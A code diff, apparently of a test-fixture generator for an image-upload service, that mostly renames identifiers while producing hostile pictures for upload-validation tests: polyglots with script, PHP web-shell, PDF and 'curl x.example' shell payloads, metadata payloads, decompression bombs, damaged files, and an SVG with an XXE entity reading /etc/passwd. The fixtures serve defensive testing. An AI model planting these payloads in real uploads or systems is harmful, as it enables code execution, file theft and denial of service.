@@ -1,12 +1,12 @@
 import { deflateSync, gzipSync } from 'node:zlib'
 import { randomOf } from '#shared/uad/testing/random.ts'
-import { aPicture, aPlainPicture, KINDS, type Kind } from './a-picture.ts'
-import { bombs } from './bombs.ts'
+import { aPictureOf, aPlainPicture, PICTURE_KINDS, type PictureKind } from './a-picture.ts'
+import { decompressionBombs } from './bombs.ts'
 import type { HostilePicture } from './hostile-picture.ts'
-import { jpegWith, pngChunk, pngWith, webpWith, withRemark } from './with-payload.ts'
+import { jpegWith, pngChunk, pngWith, webpWith, withComment } from './with-payload.ts'
 
 /** Part of every payload; it must not be in any stored file. */
-export const MARK = 'EVIL-7f3a91c0'
+export const PAYLOAD_MARK = 'EVIL-7f3a91c0'
 
 /** Generates the hostile files with their expected verdicts; more of them with PLUGFOLIO_LONG. */
 export async function hostilePictures(): Promise<HostilePicture[]> {
@@ -15,7 +15,7 @@ export async function hostilePictures(): Promise<HostilePicture[]> {
     ...(await withMetadata()),
     ...(await truncated()),
     ...(await notPictures()),
-    ...(await bombs()),
+    ...(await decompressionBombs()),
     ...(await damaged(process.env.PLUGFOLIO_LONG ? 400 : 8)),
   ]
 }
@@ -23,42 +23,44 @@ export async function hostilePictures(): Promise<HostilePicture[]> {
 /** Pictures with a few random bytes: some are refused, some can still be drawn, none may be stored unchanged. */
 async function damaged(count: number): Promise<HostilePicture[]> {
   const random = randomOf(7)
-  const pictures = await Promise.all(KINDS.map((kind) => aPicture(kind, { width: 120, height: 80 })))
+  const pictures = await Promise.all(
+    PICTURE_KINDS.map((kind) => aPictureOf(kind, { width: 120, height: 80 })),
+  )
   return Array.from({ length: count }, (_, number) => {
-    const bytes = withRemark(...pictureAndKind(pictures, number), Buffer.from(MARK))
+    const bytes = withComment(...pictureAndKind(pictures, number), Buffer.from(PAYLOAD_MARK))
     for (let flips = 1 + Math.floor(random() * 12); flips > 0; flips--)
       bytes[Math.floor(random() * bytes.length)] = Math.floor(random() * 256)
     return { what: `damaged picture ${number}`, bytes, verdict: 'any' }
   })
 }
 
-function pictureAndKind(pictures: Buffer[], number: number): [Kind, Buffer] {
-  const at = number % KINDS.length
-  return [KINDS[at] ?? 'png', pictures[at] ?? Buffer.alloc(0)]
+function pictureAndKind(pictures: Buffer[], number: number): [PictureKind, Buffer] {
+  const at = number % PICTURE_KINDS.length
+  return [PICTURE_KINDS[at] ?? 'png', pictures[at] ?? Buffer.alloc(0)]
 }
 
 const PAYLOADS: [what: string, payload: Buffer][] = [
-  ['HTML', Buffer.from(`<!doctype html><html><script>alert('${MARK}')</script></html>`)],
-  ['JavaScript', Buffer.from(`*/=1;fetch('//x.example/${MARK}');/*`)],
-  ['PHP', Buffer.from(`<?php system($_GET['${MARK}']); ?>`)],
-  ['PHP archive', Buffer.from(`<?php __HALT_COMPILER(); ?>\r\n${MARK}`)],
-  ['SVG', Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert('${MARK}')"/>`)],
+  ['HTML', Buffer.from(`<!doctype html><html><script>alert('${PAYLOAD_MARK}')</script></html>`)],
+  ['JavaScript', Buffer.from(`*/=1;fetch('//x.example/${PAYLOAD_MARK}');/*`)],
+  ['PHP', Buffer.from(`<?php system($_GET['${PAYLOAD_MARK}']); ?>`)],
+  ['PHP archive', Buffer.from(`<?php __HALT_COMPILER(); ?>\r\n${PAYLOAD_MARK}`)],
+  ['SVG', Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert('${PAYLOAD_MARK}')"/>`)],
   [
     'ZIP',
     Buffer.concat([
       Buffer.from('PK\x03\x04', 'latin1'),
-      Buffer.from(MARK),
+      Buffer.from(PAYLOAD_MARK),
       Buffer.from('PK\x05\x06', 'latin1'),
     ]),
   ],
-  ['PDF', Buffer.from(`%PDF-1.7\n1 0 obj<</JS(${MARK})>>endobj\n%%EOF`)],
-  ['shell', Buffer.from(`\n#!/bin/sh\ncurl x.example/${MARK}\n`)],
+  ['PDF', Buffer.from(`%PDF-1.7\n1 0 obj<</JS(${PAYLOAD_MARK})>>endobj\n%%EOF`)],
+  ['shell', Buffer.from(`\n#!/bin/sh\ncurl x.example/${PAYLOAD_MARK}\n`)],
 ]
 
 async function polyglots() {
   const made: HostilePicture[] = []
-  for (const kind of KINDS) {
-    const picture = await aPicture(kind)
+  for (const kind of PICTURE_KINDS) {
+    const picture = await aPictureOf(kind)
     for (const [what, payload] of PAYLOADS) {
       made.push({
         what: `${what} after a ${kind}`,
@@ -67,7 +69,7 @@ async function polyglots() {
       })
       made.push({
         what: `${what} in a comment of a ${kind}`,
-        bytes: withRemark(kind, picture, payload),
+        bytes: withComment(kind, picture, payload),
         verdict: 'stored',
       })
     }
@@ -86,24 +88,24 @@ const EXIF = Buffer.concat([
   Buffer.from('II*\0\x08\0\0\0', 'latin1'),
   Buffer.from('0200', 'hex'),
   Buffer.from('0e010200', 'hex'),
-  Buffer.from([MARK.length + 1, 0, 0, 0, 56, 0, 0, 0]),
+  Buffer.from([PAYLOAD_MARK.length + 1, 0, 0, 0, 56, 0, 0, 0]),
   Buffer.from('2588040001000000', 'hex'),
   Buffer.from([38, 0, 0, 0, 0, 0, 0, 0]),
   Buffer.from('0100', 'hex'),
   Buffer.from('0100020002000000', 'hex'),
   Buffer.from('4e00000000000000', 'hex'),
-  Buffer.from(`${MARK}\0`),
+  Buffer.from(`${PAYLOAD_MARK}\0`),
 ])
 
 async function withMetadata(): Promise<HostilePicture[]> {
-  const [jpeg, png, webp] = [await aPicture('jpeg'), await aPicture('png'), await aPicture('webp')]
+  const [jpeg, png, webp] = [await aPictureOf('jpeg'), await aPictureOf('png'), await aPictureOf('webp')]
   const exif = Buffer.concat([Buffer.from('Exif\0\0'), EXIF])
-  const xmp = Buffer.from(`http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>${MARK}</x:xmpmeta>`)
+  const xmp = Buffer.from(`http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>${PAYLOAD_MARK}</x:xmpmeta>`)
   const inflatesTo500MB = deflateSync(Buffer.alloc(500_000_000), { level: 9 })
-  const comments = Buffer.concat(Array(200_000).fill(pngChunk('tEXt', Buffer.from(`a\0${MARK}`))))
+  const comments = Buffer.concat(Array(200_000).fill(pngChunk('tEXt', Buffer.from(`a\0${PAYLOAD_MARK}`))))
   const profilePart = Buffer.concat([
     Buffer.from('ICC_PROFILE\0\x01\x01', 'latin1'),
-    Buffer.alloc(65_000, MARK),
+    Buffer.alloc(65_000, PAYLOAD_MARK),
   ])
   const hugeProfile = Array.from({ length: 60 }, () => profilePart).reduce(
     (whole, part) => jpegWith(whole, 0xe2, part),
@@ -135,8 +137,8 @@ async function withMetadata(): Promise<HostilePicture[]> {
 
 async function truncated() {
   const made: HostilePicture[] = []
-  for (const kind of KINDS) {
-    const picture = await aPicture(kind)
+  for (const kind of PICTURE_KINDS) {
+    const picture = await aPictureOf(kind)
     for (const share of [0.03, 0.5, 0.95]) {
       const bytes = picture.subarray(0, Math.floor(picture.length * share))
       made.push({ what: `the first ${share * 100} % of a ${kind}`, bytes, verdict: 'damaged_picture' })
@@ -148,7 +150,7 @@ async function truncated() {
 async function notPictures(): Promise<HostilePicture[]> {
   const svg = Buffer.from(
     `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>
-    <svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>&x;${MARK}</text></svg>`,
+    <svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>&x;${PAYLOAD_MARK}</text></svg>`,
   )
   const files: [what: string, bytes: Buffer][] = [
     ['an SVG', svg],
